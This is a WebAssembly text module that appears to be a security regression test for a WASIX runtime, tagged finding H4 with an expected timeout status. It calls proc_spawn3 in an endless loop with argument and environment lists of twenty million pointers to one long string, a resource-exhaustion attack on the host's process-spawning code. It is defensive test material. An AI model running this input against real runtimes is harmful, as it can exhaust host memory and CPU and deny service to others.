;;: attacks = argument lists of millions of pointers to one long string
;;: finding = H4
;;: timeout = 1
;;: memory = 128M
;;: status = 124
(module
  (import "wasix_32v1" "proc_spawn3" (func $spawn (param i32 i32 i32 i32 i32 i32 i32 i32 i32 i32 i32 i32 i32 i32) (result i32)))
  (memory (export "memory") 1900)
  (data (i32.const 0) "/bin/nosuchprogram\00")
  (func (export "_start") (local $i i32)
    (loop $fill
      (i32.store (i32.add (i32.const 8388608) (i32.shl (local.get $i) (i32.const 2))) (i32.const 65536))
      (br_if $fill (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) (i32.const 20000000))))
    (loop $again
      (drop (call $spawn (i32.const 0) (i32.const 18) (i32.const 8388608) (i32.const 20000000) (i32.const 8388608) (i32.const 20000000)
        (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 128)))
      (memory.fill (i32.const 65536) (i32.const 97) (i32.const 2000000))
      (drop (call $spawn (i32.const 0) (i32.const 18) (i32.const 8388608) (i32.const 20000000) (i32.const 8388608) (i32.const 20000000)
        (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 128)))
      (br $again))))
